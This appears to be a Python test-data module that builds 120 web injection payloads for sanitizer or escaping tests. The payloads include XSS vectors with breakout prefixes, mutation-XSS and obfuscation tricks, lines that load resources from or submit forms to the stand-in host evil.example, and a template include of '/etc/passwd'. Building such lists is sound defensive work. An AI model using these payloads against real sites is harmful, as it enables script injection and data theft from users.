"""120 texts that try to become markup, script or a request, or to hide what they are."""

from __future__ import annotations

from itertools import product

__all__ = ["PAYLOADS"]

_BREAKOUTS = ["", '"', "'", "`", "-->", "</script>", "</style>", "</title>", "</textarea>", "]]>", "'>\"><"]
_ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href=javascript:alert(1)>x</a>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<style>@import '//evil.example/x.css';</style>",
    "<base href=//evil.example/>",
]
_OTHERS = [
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)',
    "{{ 7 * 7 }}",
    "{% include '/etc/passwd' %}",
    "${alert(1)}",
    "javascript:alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x3C;img src=x onerror=alert(1)&#x3E;",
    "\u202egnp.exe\u202c",
    "a\u0000b<script\u0000>alert(1)</script>",
    "\ufeff<script>alert(1)</script>",
    "<scr\u200bipt>alert(1)</script>",
    "\u2028alert(1)\u2029",
    "＜script＞alert(1)＜/script＞",
    "<math><mtext></mtext><mglyph><svg><mtext><style><path id='</style><img onerror=alert(1) src>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<details open ontoggle=alert(1)>",
    "<form action=//evil.example><input name=q autofocus></form>",
    "<object data=data:text/html,<script>alert(1)</script>>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<div style='background:url(//evil.example/x)'>",
]

PAYLOADS = [before + attack for before, attack in product(_BREAKOUTS, _ATTACKS)] + _OTHERS
